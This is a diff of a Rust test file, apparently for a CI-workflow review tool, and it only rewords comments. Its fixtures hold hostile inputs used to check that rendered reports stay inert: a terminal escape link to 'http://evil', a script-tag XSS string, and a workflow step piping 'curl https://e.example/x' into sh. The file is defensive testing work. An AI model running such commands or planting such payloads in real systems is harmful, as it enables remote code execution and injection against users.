@@ -1,4 +1,4 @@
-//! Reviews in every form: valid, inert whatever the names of the repository, and of one mind.
+//! Tests reviews in every format: valid, safe with hostile names, and consistent.
 #![expect(
     clippy::indexing_slicing,
     clippy::unwrap_used,
@@ -22,7 +22,7 @@ use plimsoll::{
 use plimsoll_testkit::assert_sound;
 use serde_json::Value;
 
-/// Names that try to be something else in a terminal, HTML, Markdown, a spreadsheet, XML or a CI log.
+/// Names with a meaning in a terminal, HTML, Markdown, a spreadsheet, XML or a CI log.
 const NAMES: [&str; 14] = [
     "\u{1b}[2J\u{1b}]8;;http://evil\u{7}click",
     "<script>alert(1)</script>",
@@ -42,7 +42,7 @@ const NAMES: [&str; 14] = [
 
 fn workflow(revision: &str, names: &[&str]) -> String {
     let mut text = "on: push\njobs:\n  b:\n    runs-on: linux\n    steps:\n".to_owned();
-    // YAML itself refuses what is not a character.
+    // YAML does not allow noncharacters.
     for name in names.iter().filter(|name| !name.contains('\u{fffe}')) {
         let value = serde_json::to_string(&format!("evil/{name}@{revision}")).unwrap();
         writeln!(text, "      - uses: {value}").unwrap();
@@ -74,7 +74,7 @@ fn hostile() -> Reviewed {
         source = source.with_file(".github/workflows/<img src=x>.yml", workflow(revision, names));
         source = source.with_file(".github/workflows/b.yml", workflow(revision, names));
         let ends = if revision == "main" { "" } else { "x: [\n" };
-        // Its second finding is of a rule that nothing else breaks.
+        // Its second finding is of a rule that has no other finding.
         let piped = "      - run: curl https://e.example/x | sh\n";
         let broken = format!("{ends}{}{piped}", workflow("main", &["lost"]));
         source = source.with_file(".github/workflows/c.yml", broken);
@@ -120,7 +120,7 @@ fn formats() -> impl Iterator<Item = Format> {
     OutputKind::Review.formats().map(|meta| meta.format)
 }
 
-/// Everything that has pages, in a format for people.
+/// All pages, in a format for people.
 fn pages(reviewed: &Reviewed, format: Format) -> Vec<String> {
     let options = RenderOptions::default();
     let mut report = Vec::new();
@@ -163,7 +163,7 @@ fn no_form_holds_a_control_character_or_turns_a_line_round() {
             (c.is_control() && !['\n', '\r'].contains(&c))
                 || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{fffe}' | '\u{ffff}' | '\u{fdd0}' | '\u{1fffe}')
         };
-        // JSON has the names as they are, escaped where its grammar demands it.
+        // In JSON, names are unchanged, except for the escapes of its grammar.
         if format != Format::Json {
             assert_eq!(text.lines().find(|line| line.contains(bad)), None, "{format}");
         }
@@ -171,7 +171,7 @@ fn no_form_holds_a_control_character_or_turns_a_line_round() {
     }
 }
 
-/// Collects the tags of a page, and what its parser objects to.
+/// Collects the tags of a page, and the errors of its parser.
 #[derive(Default)]
 struct Tags {
     names: RefCell<BTreeSet<String>>,
@@ -202,7 +202,7 @@ impl TokenSink for Tags {
     }
 }
 
-/// Every tag that a page is made of, and its drawings.
+/// All tags that pages and their drawings consist of.
 #[rustfmt::skip]
 const KNOWN: [&str; 48] = [
     "a", "body", "br", "caption", "code", "dd", "details", "div", "dl", "dt", "figcaption", "figure",
@@ -239,7 +239,7 @@ fn assert_inert(page: &str) {
     for target in &*found.targets.borrow() {
         assert!(target.starts_with('#') || target == "data:,", "{target}");
     }
-    // Whatever has markup of its own stands there escaped, and nowhere as it is.
+    // Names that contain markup only occur escaped.
     for name in NAMES.iter().filter(|name| name.contains('<')) {
         assert!(!page.contains(name), "{name:?} stands as it is");
     }
@@ -253,7 +253,7 @@ fn assert_inert(page: &str) {
 fn markdown_has_no_markup_of_foreign_names_and_even_tables() {
     let mut columns = None;
     for line in pages(&hostile(), Format::Markdown).iter().flat_map(|page| page.lines()) {
-        // What is escaped is no markup.
+        // Escaped text is not markup.
         let mut bare = String::new();
         let mut rest = line.chars();
         while let Some(c) = rest.next() {
@@ -387,7 +387,7 @@ fn every_result_of_sarif_points_at_its_own_rule() {
     let reviewed = hostile();
     let review = Review::new(&reviewed.report).with_delta(&reviewed.delta);
     let mut out = Vec::new();
-    // Without descriptions, the results alone say which rules there are.
+    // Without descriptions, only the results name the rules.
     render_review(&review, Format::Sarif, &RenderOptions::default(), &mut out).unwrap();
     let log: Value = serde_json::from_slice(&out).unwrap();
     let run = &log["runs"][0];
